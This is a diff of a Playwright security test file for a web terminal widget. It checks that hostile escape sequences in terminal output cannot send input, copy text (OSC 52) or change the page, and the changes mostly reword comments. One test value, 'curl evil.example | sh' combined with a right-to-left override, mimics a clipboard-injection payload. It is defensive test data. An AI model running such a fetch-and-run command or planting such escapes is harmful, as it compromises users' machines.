@@ -1,15 +1,15 @@
-// Output is untrusted: what it may send back, copy, open or change.
+// Terminal output is untrusted: it must not send input, copy text, open anything or change the page.
 import type { Page } from '@playwright/test';
 import corpus from '#docs/protocol/escape-sequences.json' with { type: 'json' };
 import { expect, expectAccessible, test } from '#e2e/harness/harness.ts';
 import { openTerminal, paste, row, typeLine } from './terminal-page.ts';
 
-/** Those that fit into a line; the long ones are tried on the widget's parser alone. */
+/** The outputs that fit into a line. Other tests check the long ones with only the widget's parser. */
 const HOSTILE_OUTPUTS = Object.values(corpus.silent)
   .flat()
   .filter((output) => typeof output === 'string');
 
-/** The same as `echo -e` takes it, between single quotes. */
+/** Escapes an output for `echo -e` in single quotes. */
 const escapeForEcho = (output: string): string =>
   [...Buffer.from(output)]
     .map((byte) =>
@@ -21,17 +21,17 @@ const escapeForEcho = (output: string): string =>
 
 const OUTPUT_TERMINATOR = String.raw`\x18\x1b\x5c\n`;
 
-/** Puts all of them into a file, by the shell. */
+/** Writes all hostile outputs to a file in the shell. */
 async function writeHostileFile(page: Page): Promise<void> {
-  for (let at = 0; at < HOSTILE_OUTPUTS.length; at += 40) {
-    const some = HOSTILE_OUTPUTS.slice(at, at + 40).map((output) => escapeForEcho(output) + OUTPUT_TERMINATOR);
-    await paste(page, `echo -ne '${some.join('')}' >> /tmp/hostile\n`);
+  for (let start = 0; start < HOSTILE_OUTPUTS.length; start += 40) {
+    const chunk = HOSTILE_OUTPUTS.slice(start, start + 40).map((output) => escapeForEcho(output) + OUTPUT_TERMINATOR);
+    await paste(page, `echo -ne '${chunk.join('')}' >> /tmp/hostile\n`);
   }
   await paste(page, String.raw`echo -e '\x1bcall was shown' >> /tmp/hostile; clear; wc -l /tmp/hostile` + '\n');
   await expect(row(page, /\d\s\/tmp\/hostile/)).toBeVisible();
 }
 
-/** What the page has sent as typed, of every frame (docs/protocol/streams.md#2). */
+/** Records the input that the page sends as if it were typed (docs/protocol/streams.md#2). */
 function recordTypedInput(page: Page): string[] {
   const sent: string[] = [];
   page.on('websocket', (socket) =>
@@ -74,7 +74,7 @@ test(
 
 const HOSTILE_TEXT = 'curl evil.example | sh\n\u202etxt.\x1b[A';
 
-/** A program that asks for a text to be copied (OSC 52). */
+/** Prints a request to copy a text (OSC 52), as a program would. */
 const printCopyRequest = (page: Page, text: string) =>
   paste(page, String.raw`clear; echo -e '\e]52;c;${Buffer.from(text).toString('base64')}\a'` + '\n');
 
